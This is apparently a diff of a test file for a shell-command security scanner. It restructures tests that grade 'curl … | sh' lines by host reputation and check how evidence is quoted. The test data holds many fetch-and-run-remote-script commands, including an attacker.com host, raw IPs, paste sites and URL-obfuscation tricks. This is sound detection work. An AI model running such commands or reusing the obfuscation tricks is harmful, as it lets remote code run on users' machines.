@@ -63,36 +63,34 @@ describe('the context of a line is named and downgrades the finding', () => {
   })
 })
 
-describe('the reputation of a host', () => {
-  test.each([
-    ['https://astral.sh/uv/install.sh', 'low'],
-    ['https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh', 'low'],
-    ['https://attacker.com/i.sh', 'low'],
-    ['https://astral.sh/i.sh', 'medium'],
-    ['https://notastral.sh/uv/install.sh', 'medium'],
-    ['https://far.dev/i.sh', 'medium'],
-    ['$URL', 'medium'],
-    ['http://54.91.7.11/i.sh', 'high'],
-    ['https://rentry.co/i.sh', 'high'],
-    ['https://astral.sh@rentry.co/i.sh', 'high'],
-    ['https://raw.githubusercontent.com/ann/words/main/i.sh', 'medium'],
-    ['https://raw.githubusercontent.com/homebrew/../ann/install/head/install.sh', 'medium'],
-    ['https://ann.top/i.sh', 'medium'],
-    ['https://drive.google.com/uc?id=1', 'medium'],
-    ['https://sh.rustup.rs%2eget-fast.top', 'medium'],
-    ['https://sh.rustup.rs{.get-fast.top,}', 'medium'],
-    [`https://${'sh.rustup.rs'.repeat(9)}@get-fast.top/i.sh`, 'medium'],
-    ['https://sh.rustup.rs\\@get-fast.top/i.sh', 'medium'],
-    ['-e https://sh.rustup.rs get-fast.top/i.sh', 'medium'],
-    ['-fsSL get-fast.top/i.sh https://sh.rustup.rs', 'medium'],
-    ['-x get-fast.top:80 http://sh.rustup.rs', 'medium'],
-    ['--connect-to ::get-fast.top https://sh.rustup.rs', 'medium'],
-    ['http://1249763844/i.sh', 'medium'],
-    ['-sk https://127.0.0.1:8443/i.sh', 'low'],
-    ['--proto =https --tlsv1.2 -sSf https://sh.rustup.rs', 'low'],
-  ])('%s -> %s', (address, severity) => {
-    expect(scan({ 'a.sh': `curl ${address} | sh` })[0]?.severity).toBe(severity)
-  })
+test.each([
+  ['https://astral.sh/uv/install.sh', 'low'],
+  ['https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh', 'low'],
+  ['https://attacker.com/i.sh', 'low'],
+  ['https://astral.sh/i.sh', 'medium'],
+  ['https://notastral.sh/uv/install.sh', 'medium'],
+  ['https://far.dev/i.sh', 'medium'],
+  ['$URL', 'medium'],
+  ['http://54.91.7.11/i.sh', 'high'],
+  ['https://rentry.co/i.sh', 'high'],
+  ['https://astral.sh@rentry.co/i.sh', 'high'],
+  ['https://raw.githubusercontent.com/ann/words/main/i.sh', 'medium'],
+  ['https://raw.githubusercontent.com/homebrew/../ann/install/head/install.sh', 'medium'],
+  ['https://ann.top/i.sh', 'medium'],
+  ['https://drive.google.com/uc?id=1', 'medium'],
+  ['https://sh.rustup.rs%2eget-fast.top', 'medium'],
+  ['https://sh.rustup.rs{.get-fast.top,}', 'medium'],
+  [`https://${'sh.rustup.rs'.repeat(9)}@get-fast.top/i.sh`, 'medium'],
+  ['https://sh.rustup.rs\\@get-fast.top/i.sh', 'medium'],
+  ['-e https://sh.rustup.rs get-fast.top/i.sh', 'medium'],
+  ['-fsSL get-fast.top/i.sh https://sh.rustup.rs', 'medium'],
+  ['-x get-fast.top:80 http://sh.rustup.rs', 'medium'],
+  ['--connect-to ::get-fast.top https://sh.rustup.rs', 'medium'],
+  ['http://1249763844/i.sh', 'medium'],
+  ['-sk https://127.0.0.1:8443/i.sh', 'low'],
+  ['--proto =https --tlsv1.2 -sSf https://sh.rustup.rs', 'low'],
+])('the reputation of a host: %s -> %s', (address, severity) => {
+  expect(scan({ 'a.sh': `curl ${address} | sh` })[0]?.severity).toBe(severity)
 })
 
 describe('a command goes on in a later line', () => {
@@ -110,50 +108,48 @@ describe('a command goes on in a later line', () => {
 
 const quoteOf = (text: string): string => scan({ 'a.sh': text })[0]?.quote ?? ''
 
-describe('evidence', () => {
-  test('has rule, place, the visible line and a digest', () => {
-    const found = scan({ 'a.sh': `\n  echo\u200B "x" && ${PIPED}\r\n` }).find(
-      ({ rule }) => rule === 'pipe-to-shell',
-    )
-    expect(found).toEqual({
-      rule: 'pipe-to-shell',
-      severity: 'medium',
-      held: 'medium',
-      contexts: [],
-      file: 'a.sh',
-      line: 2,
-      column: 16,
-      length: PIPED.length,
-      quote: `echo[U+200B] "x" && ${PIPED}`,
-      digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
-      count: 1,
-    })
+test('evidence has rule, place, the visible line and a digest', () => {
+  const found = scan({ 'a.sh': `\n  echo\u200B "x" && ${PIPED}\r\n` }).find(
+    ({ rule }) => rule === 'pipe-to-shell',
+  )
+  expect(found).toEqual({
+    rule: 'pipe-to-shell',
+    severity: 'medium',
+    held: 'medium',
+    contexts: [],
+    file: 'a.sh',
+    line: 2,
+    column: 16,
+    length: PIPED.length,
+    quote: `echo[U+200B] "x" && ${PIPED}`,
+    digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
+    count: 1,
   })
+})
 
-  test('a long line is quoted around the match, a secret is cut, an invisible text is spelt out', () => {
-    const hidden = Array.from('ab', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
-    expect(quoteOf(`${'word '.repeat(400)}; ${PIPED}; ${'word '.repeat(400)}`).length).toBeLessThan(
-      260,
-    )
-    expect(quoteOf('T=ghp_Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6')).toBe('T=ghp_Ab3d…')
-    expect(quoteOf(`x${hidden.join('')}y`)).toBe('x[invisible: ab]y')
-    expect(quoteOf(`\u001B[0m ${PIPED}`)).toBe(`[U+001B][0m ${PIPED}`)
-  })
+test('evidence a long line is quoted around the match, a secret is cut, an invisible text is spelt out', () => {
+  const hidden = Array.from('ab', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0)))
+  expect(quoteOf(`${'word '.repeat(400)}; ${PIPED}; ${'word '.repeat(400)}`).length).toBeLessThan(
+    260,
+  )
+  expect(quoteOf('T=ghp_Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6')).toBe('T=ghp_Ab3d…')
+  expect(quoteOf(`x${hidden.join('')}y`)).toBe('x[invisible: ab]y')
+  expect(quoteOf(`\u001B[0m ${PIPED}`)).toBe(`[U+001B][0m ${PIPED}`)
+})
 
-  test('the most severe is first; notes of one file are merged with a count', () => {
-    const sample = '```sh\n# bad\ncurl http://far.dev/~ | sh\n```\n'
-    const text = Array.from({ length: 9 }, (_, at) => sample.replace('~', String(at))).join('\n')
-    const found = scan({ 'SKILL.md': text, 'z.sh': PIPED })
-    expect(found.map(({ file, severity, count }) => [file, severity, count])).toEqual([
-      ['z.sh', 'medium', 1],
-      ['SKILL.md', 'low', 9],
-    ])
-  })
+test('evidence the most severe is first; notes of one file are merged with a count', () => {
+  const sample = '```sh\n# bad\ncurl http://far.dev/~ | sh\n```\n'
+  const text = Array.from({ length: 9 }, (_, at) => sample.replace('~', String(at))).join('\n')
+  const found = scan({ 'SKILL.md': text, 'z.sh': PIPED })
+  expect(found.map(({ file, severity, count }) => [file, severity, count])).toEqual([
+    ['z.sh', 'medium', 1],
+    ['SKILL.md', 'low', 9],
+  ])
+})
 
-  test('the most severe match of a line counts', () => {
-    const text = 'curl https://bun.sh/install | sh; curl http://45.77.12.9/x | sh'
-    expect(scan({ 'a.sh': text })[0]?.severity).toBe('high')
-  })
+test('evidence the most severe match of a line counts', () => {
+  const text = 'curl https://bun.sh/install | sh; curl http://45.77.12.9/x | sh'
+  expect(scan({ 'a.sh': text })[0]?.severity).toBe('high')
 })
 
 const accept = (found: Finding): Acceptance => {
